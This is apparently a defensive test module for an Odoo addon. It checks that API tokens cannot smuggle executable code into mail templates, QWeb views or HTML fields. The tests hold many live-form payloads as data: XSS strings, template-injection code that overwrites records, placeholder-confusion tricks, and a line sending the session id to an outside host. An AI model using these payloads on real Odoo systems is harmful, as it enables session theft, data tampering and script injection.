"""Templates that a token leaves or sends: no grammar of Odoo's evaluates more in them than was looked at."""
import time
from xml.sax.saxutils import escape, quoteattr

from lxml import etree

from odoo.tests import tagged

from ..fence.markup import markup_has_power
from .sealed import READS, SECRET, WRITES, SealedCase

# Placeholders of which one grammar sees the harmless part, and the other the rest.
MIXED_INLINE = '#{1|||{{ %s }}'
MIXED_QWEB = '{{1|||#{%s}'

# HTML that runs something or leads away.
ACTIVE = (
    '<script>alert(1)</script>', '<a href="java&#115;cript:alert(1)">x</a>', '<a href="java\tscript:alert(1)">x</a>',
    '<p onload2="1">x</p>', '<object data="data:text/html,x"></object>', '<embed src="//e.example/x.swf">',
    '<link rel="stylesheet" href="//e.example">', '<meta http-equiv="refresh" content="0;url=//e.example">',
    '<base href="https://e.example/">', '<form action="//e.example"><input></form>', '<iframe srcdoc="x"></iframe>',
    '<svg><a><set attributeName="href" to="javascript:alert(1)"/></a></svg>', '<p t-out="1">x</p>')


def mixed_body(code):
    return f'<p t-attf-title={quoteattr(MIXED_QWEB % code)}>x</p>'


def dict_of(code):
    return quoteattr(f"{{'x': {code}}}")


@tagged('post_install', '-at_install')
class TestMixedPlaceholders(SealedCase):
    """A text that is evaluated by one of Odoo's two grammars of placeholders and not by the other."""

    def setUp(self):
        super().setUp()
        self.values = {'name': 'Attack', 'model_id': self.model_id('res.partner')}

    def texts(self, code):
        yield 'body_html', mixed_body(code)
        for name in ('subject', 'email_to', 'lang'):
            yield name, MIXED_INLINE % code
            yield name, MIXED_INLINE % code + '}'

    def test_a_template_for_later(self):
        for user in (self.admin, self.user):
            api = self.widest_token(user=user)
            for name, text in self.texts(f'object.{WRITES}'):
                with self.isolated(user=user.login, name=name, text=text):
                    stored = self.env['mail.template'].create({**self.values, 'body_html': '<p>Hello</p>'})
                    ids = self.made(api, 'mail.template', 'create', vals_list=[{**self.values, name: text}])
                    ids += self.made(api, 'mail.template', 'create', vals_list=[self.values], context={
                        f'default_{name}': text})
                    self.attempt(api, 'mail.template', 'write', ids=stored.ids, vals={name: text})
                    self.attempt(api, 'mail.template', 'load', fields=['.id', name], data=[[str(stored.id), text]])
                    for template in (self.env['mail.template'].browse(ids) + stored).exists():
                        with self.by_a_person():
                            template.with_user(self.admin)._generate_template(self.person.ids, (name,))
                    self.assertNotWritten()

    def test_a_template_of_a_model_without_records_that_then_gets_another(self):
        """Odoo tries a new template on a record, so that one without records is not tried."""
        api = self.widest_token()
        ids = self.made(api, 'mail.template', 'create', vals_list=[{
            'name': 'Attack', 'model_id': self.model_id('mail.blacklist'),
            'subject': MIXED_INLINE % f'object.{WRITES}'}])
        self.attempt(api, 'mail.template', 'write', ids=ids, vals={'model_id': self.model_id('res.partner')})
        with self.by_a_person():
            self.env['mail.template'].browse(ids).exists().with_user(self.admin)._generate_template(
                self.person.ids, ('subject',))
        self.assertNotWritten()

    def test_a_composer_that_sends_at_once(self):
        for user in (self.admin, self.user):
            api = self.widest_token(user=user)
            for values in ({'body': mixed_body(f'object.{READS}')}, {'subject': MIXED_INLINE % f'object.{READS}'}):
                with self.isolated(user=user.login, values=values):
                    ids = self.made(api, 'mail.compose.message', 'create', vals_list=[{
                        'composition_mode': 'mass_mail', 'model': 'res.partner', 'subject': 'sealed',
                        'res_ids': f'[{self.person.id}]', **values}])
                    if ids:
                        self.attempt(api, 'mail.compose.message', 'action_send_mail', ids=ids)
                    self.assertFalse(self.env['mail.mail'].sudo().search([
                        '|', ('body_html', 'like', SECRET), ('subject', 'like', SECRET)]))

    def test_many_placeholders_do_not_keep_the_server_busy(self):
        api = self.widest_token(user=self.user)
        stored = self.env['mail.template'].create(self.values)
        for text in ('{{|||' * 400, '{{|||' * 50 + '|||' * 600, '}}' * 50 + '{{|||' * 50 + '|||' * 600,
                     '{{|||' * 50 + 'x' * 120000):
            for method, arguments in (('create', {'vals_list': [{**self.values, 'subject': text}]}),
                                      ('write', {'ids': stored.ids, 'vals': {'subject': text}})):
                with self.isolated(text=f'{text[:7]} …', method=method):
                    began = time.monotonic()
                    self.attempt(api, 'mail.template', method, **arguments)
                    self.assertLess(time.monotonic() - began, 3)

    def test_who_only_reads_has_nothing_rendered(self):
        def render(partners, body):
            return str(partners.env['ir.qweb'].sudo()._render(etree.fromstring(body), {'object': partners.sudo()}))
        render._readonly = True
        bodies = [mixed_body(f'object.{READS}'), f'<p><t t-set={dict_of(f"object.{READS}")}/><t t-out="x"/></p>',
                  f'<p><t t-out={quoteattr(f"object.{READS}")}/></p>']
        for user in (self.admin, self.user):
            token = self.token_for('api.read', user=user)
            for body in bodies:
                with self.isolated(user=user.login, body=body), self.method('res.partner', 'note', render):
                    self.attempt(token, 'res.partner', 'note', ids=self.person.ids, body=body)
                with self.isolated(user=user.login, body=body):
                    self.attempt(token, 'mail.compose.message', 'onchange', values={
                        'body': body, 'model': 'res.partner', 'res_ids': f'[{self.person.id}]', 'subject': 'x',
                        'composition_mode': 'mass_mail'}, field_names=['body'], fields_spec={'body': {}, 'subject': {}})

    def test_plain_templates_are_made_as_ever(self):
        api = self.widest_token()
        template, = self.made(api, 'mail.template', 'create', vals_list=[{
            **self.values, 'subject': 'Hello {{ object.name }}', 'body_html': '<p>Hello <t t-out="object.name"/></p>'}])
        rendered = self.env['mail.template'].browse(template)._generate_template(
            self.person.ids, ('subject', 'body_html'))[self.person.id]
        self.assertEqual((rendered['subject'], str(rendered['body_html'])), (
            'Hello Paula Private', '<p>Hello Paula Private</p>'))


@tagged('post_install', '-at_install')
class TestTemplatesOfANarrowToken(SealedCase):
    """A template leads from any record to all others, so that it would read what the scopes leave out."""

    def test_names_alone(self):
        token = self.token_for(self.scope(
            'mailer', ('mail.template', 'read write create'), ('mail.template.preview', 'read write create'),
            ('res.partner', 'read', {'domain': f"[('id', '=', {self.company.id})]"})))
        self.person.ref = SECRET
        for name, text in (
            ('body_html', '<t t-foreach="user.company_id.user_ids" t-as="x"><t t-out="x.login"/></t>'),
            ('body_html', '<t t-out="user.login"/>'), ('subject', '{{ user.company_id.user_ids.mapped("login") }}'),
            ('body_html', '<t t-out="object.child_ids.ref"/>'), ('subject', '{{ object.child_ids.ref }}'),
            ('subject', '{{ user.login }}'),
        ):
            with self.isolated(name=name, text=text):
                ids = self.made(token, 'mail.template', 'create', vals_list=[{
                    'name': 'x', 'model_id': self.model_id('res.partner'), name: text}])
                answer = self.attempt(token, 'mail.template.preview', 'onchange', values={
                    'mail_template_id': ids and ids[0], 'resource_ref': f'res.partner,{self.company.id}',
                }, field_names=['mail_template_id'], fields_spec={name: {}})
                self.assertNotIn('alice', answer)
                self.assertNotIn(self.admin.login, answer)


@tagged('post_install', '-at_install')
class TestViews(SealedCase):
    """Each of the ways by which QWeb evaluates: a token leaves none of them in a view."""

    def setUp(self):
        super().setUp()
        self.api = self.widest_token()
        view = self.env['ir.ui.view']
        self.shown = view.create({'name': 'shown', 'type': 'qweb', 'key': 'sealed.shown', 'arch':
            '<t t-name="sealed.shown"><b t-out="x"/></t>'})
        self.base = view.create({'name': 'base', 'type': 'qweb', 'key': 'sealed.base', 'arch':
            '<t t-name="sealed.base"><p t-out="partner.write"/><span t-out="1"/></t>'})
        self.env.flush_all()

    def render(self, ids):
        page = ''
        for id_ in ids:
            with self.by_a_person():
                page += str(self.env['ir.qweb'].with_user(self.admin).sudo()._render(id_, {
                    'partner': self.person.sudo(), 'user_id': self.admin.sudo(), 'x': ''}))
        return page

    def assertHarmless(self, ids):
        self.assertNotIn(SECRET, self.render(ids))
        self.assertNotWritten()
        self.assertEqual(self.person.ref, 'P1')

    def archs(self):
        code, call = f'user_id.{WRITES}', "partner.write&#10;({'ref': 'hacked'})"
        yield f'<t t-call="sealed.shown" x={quoteattr(code)}/>'
        yield f'<t t-call="sealed.shown" x.f={quoteattr(MIXED_QWEB % code)}/>'
        yield f'<t t-call="sealed.shown" x.translate={quoteattr(f"#{{{code}}}")}/>'
        yield f'<t t-set={dict_of(code)}/>'
        yield f'<p t-out="{call}"/>'
        yield f'<p t-att-title="{call}"/>'
        yield f'<p t-attf-title={quoteattr(MIXED_QWEB % code)}/>'
        yield f'<p t-att={dict_of(code)}/>'
        yield f'<t t-foreach={quoteattr(f"[{code}]")} t-as="one"/>'
        yield f'<t t-if={quoteattr(code)}/>'
        yield f'<p t-field={quoteattr(f"user_id.name or {code}")}/>'

    def test_a_whole_view(self):
        for body in self.archs():
            with self.isolated(body):
                arch = f'<t t-name="sealed.attack">{body}</t>'
                stored = self.env['ir.ui.view'].create({'name': 'x', 'type': 'qweb', 'arch': '<p>Hello</p>'})
                ids = self.made(self.api, 'ir.ui.view', 'create', vals_list=[{
                    'name': 'x', 'type': 'qweb', 'key': 'sealed.attack', 'arch': arch}])
                for name in ('arch', 'arch_db'):
                    self.attempt(self.api, 'ir.ui.view', 'write', ids=stored.ids, vals={name: arch})
                self.assertHarmless([*ids, stored.id])

    def test_an_attribute_that_is_put_into_a_view(self):
        code = escape(f'user_id.{WRITES}')
        for path, body in (
            ('//span', f'<attribute name="t-out">{code}</attribute>'),
            ('//span', f'<attribute name="t-out" add={quoteattr(code)} separator=" or "/>'),
            ('//p', '<attribute name="t-out" add="({\'ref\': \'hacked\'})" separator=" "/>'),
            ('//p', '<attribute name="t-out" add="{\'ref\': \'hacked\'})" separator="("/>'),
        ):
            with self.isolated(body):
                arch = f'<data><xpath expr="{path}" position="attributes">{body}</xpath></data>'
                self.made(self.api, 'ir.ui.view', 'create', vals_list=[{
                    'name': 'x', 'type': 'qweb', 'inherit_id': self.base.id, 'mode': 'extension', 'arch': arch}])
                self.assertHarmless(self.base.ids)

    def test_two_parts_of_which_each_is_a_name_or_a_literal(self):
        base = self.made(self.api, 'ir.ui.view', 'create', vals_list=[{
            'name': 'x', 'type': 'qweb', 'arch': '<t t-name="x"><p t-out="partner.write"/></t>'}])
        for id_ in base:
            self.made(self.api, 'ir.ui.view', 'create', vals_list=[{
                'name': 'y', 'type': 'qweb', 'inherit_id': id_, 'mode': 'extension', 'arch':
                    '<data><xpath expr="//p" position="attributes">'
                    '<attribute name="t-out" add="({\'ref\': \'hacked\'})" separator=" "/></xpath></data>'}])
        self.assertHarmless(base)

    def test_what_a_visitor_would_run_or_send(self):
        for body in (
            '<img t-att-src="\'https://elsewhere.example/\' + request.session.sid"/>',
            '<p t-out="request.httprequest.cookies"/>', '<t t-tag-open="script" t-tag-close="script">alert(1)</t>',
            '<p t-att="{\'on\' + \'click\': \'alert(1)\'}">x</p>',
            '<a t-att-href="\'java\' + \'script:alert(1)\'">x</a>',
            '<p t-out="\'&lt;scr\' + \'ipt&gt;\'" t-options="{\'widget\': \'html\'}"/>', '<script>alert(1)</script>',
            '<base href="https://elsewhere.example/"/>', '<meta http-equiv="refresh" content="0;url=//elsewhere"/>',
        ):
            with self.isolated(body):
                self.made(self.api, 'ir.ui.view', 'create', vals_list=[{
                    'name': 'sealed.attack', 'type': 'qweb', 'arch': f'<t t-name="x">{body}</t>'}])
                self.attempt(self.api, 'ir.ui.view', 'write', ids=self.shown.ids, vals={
                    'arch': f'<t t-name="x">{body}</t>'})
                self.assertFalse(self.env['ir.ui.view'].search([('name', '=', 'sealed.attack')]))
                self.assertIn('<b t-out="x"/>', self.shown.arch)

    def test_a_page_to_sign_in_by_a_view_two_steps_away(self):
        near = self.env['ir.ui.view'].create({
            'name': 'near', 'type': 'qweb', 'key': 'sealed.near', 'mode': 'extension', 'arch': '<data/>',
            'inherit_id': self.env.ref('web.login').id})
        far, plain = (self.env['ir.ui.view'].create({
            'name': name, 'type': 'qweb', 'key': f'sealed.{name}', 'mode': 'extension', 'arch': '<data/>',
            'inherit_id': parent.id}) for name, parent in (('far', near), ('plain', self.base)))
        for view, vals in ((near, {'active': False}), (far, {'active': False}), (far, {'priority': 1}),
                           (plain, {'inherit_id': far.id}), (plain, {'inherit_id': near.id})):
            with self.isolated(view=view.name, vals=vals):
                self.attempt(self.api, 'ir.ui.view', 'write', ids=view.ids, vals=vals)
                self.attempt(self.api, 'ir.ui.view', 'copy', ids=view.ids, default={'inherit_id': far.id})
                self.assertTrue(view.active)
                self.assertEqual(view.priority, 16)
                self.assertEqual(plain.inherit_id, self.base)
                self.assertFalse(far.inherit_children_ids)


@tagged('post_install', '-at_install')
class TestHtml(SealedCase):
    """HTML that Odoo shows as it is: no scripts, however they are written."""

    def test_what_runs_or_leads_away(self):
        for text in ACTIVE:
            with self.subTest(text):
                self.assertTrue(markup_has_power(text))
        for text in ('<p>Hello <a href="/web">there</a></p>', 'a < b', '<img src="https://e.example/x.png">'):
            with self.subTest(text):
                self.assertFalse(markup_has_power(text))


@tagged('-standard', 'post_install', '-at_install', 'oauth2_apps')
class TestHtmlOfTips(SealedCase):

    def test_a_tip_that_everybody_gets(self):
        api = self.widest_token()
        for text in ACTIVE:
            with self.isolated(text):
                ids = self.made(api, 'digest.tip', 'create', vals_list=[{'name': 'x', 'tip_description': text}])
                self.assertFalse(ids)


@tagged('post_install', '-at_install')
class TestHtmlOfRecords(SealedCase):

    def test_scripts_that_odoo_leaves_in_attributes(self):
        api, text = self.widest_token(), '<section data-bg-video-src="javascript:f()"><p>x</p></section>'
        self.assertRefused(api, 'res.partner', 'write', ids=self.person.ids, vals={'comment': text})
        self.result(api, 'res.partner', 'write', ids=self.person.ids, vals={
            'comment': text.replace('javascript:f()', '//www.youtube.com/embed/x')})
